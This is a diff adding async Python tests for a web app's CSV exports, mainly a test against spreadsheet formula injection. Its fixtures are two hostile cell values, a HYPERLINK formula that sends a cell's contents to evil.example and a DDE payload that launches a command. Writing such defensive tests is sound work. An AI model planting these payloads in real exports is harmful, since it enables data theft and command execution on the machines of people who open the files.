@@ -59,3 +59,36 @@ async def test_csv_keeps_permissions_and_errors(tenant: Tenant) -> None:
     problem(await tenant.client.get("/api/v1/analytics/overview", params={"format": "csv"}), 406)
     empty = rows(await tenant.client.get("/api/v1/students", params={"format": "csv", "q": "нет такого"}))
     assert empty == []
+
+
+async def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tenant: Tenant) -> None:
+    from tests.applications_flow.conftest import public_apply, world
+
+    # OWASP's CSV Injection: =, +, -, @, tab and CR start a formula in Excel and LibreOffice. One name comes
+    # from an administrator, one from the anonymous public form.
+    there = await world(tenant)
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    company = await tenant.company(name=typed)
+    applied = await public_apply(
+        tenant, there["opening"]["id"], full_name="@SUM(1+1)*cmd|' /C calc'!A0", university_id=there["university"]["id"]
+    )
+    assert applied.status_code == 201, applied.text
+
+    companies = {r["id"]: r for r in rows(await tenant.client.get("/api/v1/companies", params={"format": "csv"}))}
+    assert companies[str(company["id"])]["name"] == "'" + typed
+    students = rows(await tenant.client.get("/api/v1/students", params={"format": "csv"}))
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {s["full_name"] for s in students}
+    cells = [cell for row in companies.values() for cell in row.values()] + [
+        cell for row in students for cell in row.values()
+    ]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+async def test_the_openings_export_keeps_the_work_format_filter(tenant: Tenant) -> None:
+    company = await tenant.company()
+    remote = await tenant.opening(company["id"], format="remote")
+    await tenant.opening(company["id"], format="office")
+    exported = rows(
+        await tenant.client.get("/api/v1/openings", params={"format": "remote"}, headers={"Accept": "text/csv"})
+    )
+    assert [int(r["id"]) for r in exported] == [remote["id"]]
